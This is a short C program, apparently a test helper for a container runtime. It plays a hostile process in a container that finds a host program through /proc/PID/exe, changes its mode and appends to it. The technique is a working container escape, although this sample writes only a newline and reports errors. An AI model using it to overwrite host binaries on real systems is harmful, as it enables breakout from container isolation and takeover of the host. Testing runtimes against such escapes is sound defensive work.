/* A hostile program in a container: takes hold of a program of the host and tries to change it.
 *
 *   interpreter_thief FD          what is open at FD
 *   interpreter_thief             any program but itself and its fellows in the container that it finds running
 *
 * Prints the errors of changing its mode and of writing to it, "0 0" being a full success. A program that
 * still runs can't be written to, so it tries again for a while.
 */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void change(int file)
{
    clock_t end = clock() + CLOCKS_PER_SEC / 2;
    char path[64];
    int mode_error, written;

    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    mode_error = chmod(path, 0700) ? errno : 0;
    do
        written = open(path, O_WRONLY | O_APPEND);
    while (written < 0 && errno == ETXTBSY && clock() < end);
    printf("%d %d\n", mode_error, written < 0 || write(written, "\n", 1) != 1 ? errno : 0);
    close(written);
}

static int is_of_the_container(const struct stat *status)
{
    struct stat own, shell;

    return !stat("/proc/self/exe", &own) && !stat("/bin/sh", &shell)
        && ((own.st_dev == status->st_dev && own.st_ino == status->st_ino)
            || (shell.st_dev == status->st_dev && shell.st_ino == status->st_ino));
}

static void steal(void)
{
    DIR *processes = opendir("/proc");

    for (;; rewinddir(processes)) {
        for (struct dirent *entry; (entry = readdir(processes));) {
            char path[300];
            struct stat status;
            int file;

            if (!strspn(entry->d_name, "0123456789"))
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            file = open(path, O_RDONLY);
            if (file >= 0 && !fstat(file, &status) && !is_of_the_container(&status)) {
                change(file);
                return;
            }
            if (file >= 0)
                close(file);
        }
    }
}

int main(int count, char **arguments)
{
    setlinebuf(stdout);
    if (count > 1) {
        change(atoi(arguments[1]));
        return 0;
    }
    puts("ready");
    steal();
    return pause();
}
